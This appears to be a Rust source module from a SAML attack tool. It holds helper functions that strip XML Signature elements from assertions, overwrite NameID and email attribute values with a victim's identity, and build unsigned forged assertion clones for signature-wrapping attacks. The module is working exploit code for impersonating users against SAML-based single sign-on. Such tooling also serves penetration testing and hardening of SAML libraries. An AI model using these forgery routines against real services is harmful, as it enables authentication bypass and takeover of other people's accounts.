//! Tree surgery on a response, independent of any one attack: the assertion, signatures,
//! the victim's identity, and moving child elements by index.

use crate::xml::{Element, Node};

/// The response's (first) assertion.
pub fn assertion_mut(response: &mut Element) -> Option<&mut Element> {
    response.child_named_mut("Assertion")
}

/// Remove `el`'s own `Signature` children; true if there was one.
pub fn strip_signature(el: &mut Element) -> bool {
    let before = el.children.len();
    el.children
        .retain(|n| !matches!(n, Node::Element(e) if e.name == "Signature"));
    el.children.len() != before
}

/// Give `assertion` the victim's identity: the NameID and every attribute value with an `@`.
pub fn evilise(assertion: &mut Element, victim: &str) {
    walk_mut(assertion, &mut |e| {
        if e.name == "NameID" || (e.name == "AttributeValue" && e.text_content().contains('@')) {
            e.set_text(victim);
        }
    });
}

/// An unsigned copy of `assertion` under `id`, claiming to be `victim`.
pub fn evil_clone(assertion: &Element, id: &str, victim: &str) -> Element {
    let mut e = assertion.clone();
    strip_signature(&mut e);
    e.set_attr("ID", id);
    evilise(&mut e, victim);
    e
}

pub(super) fn walk_mut(el: &mut Element, f: &mut dyn FnMut(&mut Element)) {
    f(el);
    for c in el.elements_mut() {
        walk_mut(c, f);
    }
}

pub(super) fn child(parent: &Element, i: usize) -> &Element {
    match &parent.children[i] {
        Node::Element(e) => e,
        // Indices come from child_index, which only finds elements.
        _ => unreachable!("index {i} names an element"),
    }
}

pub(super) fn child_mut(parent: &mut Element, i: usize) -> &mut Element {
    match &mut parent.children[i] {
        Node::Element(e) => e,
        _ => unreachable!("index {i} names an element"),
    }
}

pub(super) fn take(parent: &mut Element, i: usize) -> Element {
    match parent.children.remove(i) {
        Node::Element(e) => e,
        _ => unreachable!("index {i} names an element"),
    }
}

pub(super) fn insert(parent: &mut Element, i: usize, el: Element) {
    parent.children.insert(i, Node::Element(el));
}
